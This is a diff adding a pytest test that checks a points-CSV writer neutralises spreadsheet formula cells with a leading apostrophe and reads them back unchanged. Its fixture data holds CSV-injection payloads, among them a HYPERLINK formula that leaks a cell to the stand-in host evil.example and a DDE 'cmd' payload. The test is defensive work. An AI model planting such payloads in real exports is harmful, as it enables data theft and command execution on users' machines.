@@ -177,6 +177,25 @@ def test_write_points_csv_round_trip(tmp_path):
         write_points_csv(tmp_path / "q.csv", ids, latlon[:2])
 
 
+def test_formula_cells_are_neutralised_and_read_back_as_they_were(tmp_path):
+    """CSV injection: a cell a spreadsheet would run (=, +, -, @, tab, CR first) gets a leading apostrophe;
+    reading our files back gives the original text, and numbers (negative coordinates) are never touched."""
+    ids = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
+           "\r=1", "'quoted", "''=x", "plain", "a=b", "-5"]
+    latlon = np.array([[-33.5, -70.25]] * len(ids))
+    path = write_points_csv(tmp_path / "p.csv", ids, latlon)
+    with open(path, newline="") as f:
+        rows = list(csv.reader(f))[1:]
+    first = [r[0] for r in rows]
+    assert first[:8] == ["'" + i for i in ids[:8]]
+    assert first[8:10] == ["plain", "a=b"] and first[10] == "'-5"
+    assert all(r[1:] == ["-33.500000", "-70.250000"] for r in rows)
+    assert read_points_csv(path).ids == ids
+    with open(tmp_path / "x.csv", "w", newline="") as f:
+        PointsWriter(f, columns=("note", "score"), decimals={"score": 2}).write("a", 1, 2, "=1+1", -0.5)
+    assert (tmp_path / "x.csv").read_text().splitlines()[1] == "a,1.000000,2.000000,'=1+1,-0.50"
+
+
 def test_points_writer_flushes_each_row(tmp_path):
     path = tmp_path / "p.csv"
     with open(path, "w", newline="") as f:
